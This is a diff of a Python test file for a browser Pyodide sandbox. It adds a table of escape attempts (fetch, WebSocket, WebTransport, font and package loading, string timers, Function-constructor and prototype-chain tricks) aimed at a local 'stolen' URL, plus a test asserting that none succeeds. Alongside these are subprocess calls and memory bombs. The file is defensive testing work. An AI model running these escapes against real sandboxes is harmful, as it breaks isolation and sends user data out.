@@ -1,4 +1,4 @@
-"""A stranger's Python in the sandbox, without any of the limits that bots are read with."""
+"""A stranger's Python, without any of the limits that bots are read with: behind both walls."""
 
 from __future__ import annotations
 
@@ -26,9 +26,12 @@ ASK = """async (code) => {
   return [told ?? error.type, "code" in alive, document.querySelectorAll("main").length];
 }"""
 
+ASK_THE_BOX = "(code) => chocobox.engine.ask({ op: 'stranger', code }).then(({ told }) => told)"
+
 JS = "import js\n"
 RUN = "from pyodide.code import run_js\n"
-REFUSED = {
+PYODIDE = "import pyodide_js\n"
+LOCKED = {
     "fetch": f"{JS}found = js.fetch('THERE')",
     "xhr": f"{JS}found = js.XMLHttpRequest.new()",
     "socket": f"{JS}found = js.WebSocket.new('THERE')",
@@ -48,10 +51,24 @@ REFUSED = {
     "function": f"{JS}found = js.Function.new('return 1')()",
     "run_js": f"{RUN}found = run_js('1')",
     "import": f"{RUN}found = run_js('import(\"THERE\")')",
-    "constructor": "import pyodide_js\nfound = pyodide_js.constructor.constructor('return 1')()",
+    "constructor": f"{PYODIDE}found = pyodide_js.constructor.constructor('return 1')()",
+    "method": f"{PYODIDE}found = pyodide_js.loadPackage.constructor('return 1')()",
+    "prototype": f"{JS}proto = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js))\n"
+    "found = proto.fetch.call(js, 'THERE')",
+    "transport": f"{JS}found = js.WebTransport.new('THERE')",
+    "locks": f"{JS}found = js.navigator.locks.query()",
+    "font": f"{JS}found = js.FontFace.new('x', 'url(THERE)').load()",
+    "timer": f"{JS}found = js.setTimeout('import(\"THERE\")')",
+    "lazy": f"{PYODIDE}pyodide_js.FS.createLazyFile('/', 'x', 'THERE', True, False)\n"
+    "found = pyodide_js.FS.readFile('/x')",
+    "package": f"{PYODIDE}found = pyodide_js.loadPackage('THERE.whl')",
     "open_url": "from pyodide.http import open_url\nfound = open_url('THERE').read()",
     "urllib": "import urllib.request\nfound = urllib.request.urlopen('THERE').read()",
     "socket2": "import socket\nfound = socket.create_connection(('localhost', 80))",
+}
+"""What would reach the net, what is kept or another thread, or make code of a text."""
+
+REFUSED = LOCKED | {
     "process": "import subprocess\nfound = subprocess.run(['ls'])",
     "bomb": "found = len(bytearray(10 ** 9))",
     "bombs": "found = []\nwhile True: found.append(bytearray(10 ** 7))",
@@ -104,6 +121,26 @@ def test_no_stranger_gets_over_the_wall_and_the_page_stays_alive(
             assert not told.startswith("did:") or name in ENDED, (name, told)
         assert foreign.answers == []
         profile.leave()
+
+
+@pytest.mark.parametrize("profile", ENGINES, indirect=True)
+def test_from_the_boxs_own_python_nothing_leaves_the_worker_and_no_text_becomes_code(
+    profile: Profile, dist: Path, tmp_path: Path
+) -> None:
+    box, elsewhere = box_with(ANSWER, dist, tmp_path), tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    with serving(box) as site, serving(elsewhere) as foreign:
+        visitor = profile.open(site.address)
+        visitor.wait_for(READY)
+        there = f"{foreign.address}stolen"
+        tries = {name: code.replace("THERE", there) for name, code in LOCKED.items()}
+        told = {name: visitor.evaluate(ASK_THE_BOX, code) for name, code in tries.items()}
+        visitor.tap("a", "Play Schokoly")
+        visitor.tap("a", "Just play")
+        visitor.wait_for(".dock")
+        profile.leave()
+        assert {name: how for name, how in told.items() if how.startswith("did:")} == {}
+        assert foreign.answers == []
 
 
 @pytest.mark.parametrize("profile", ENGINES, indirect=True)
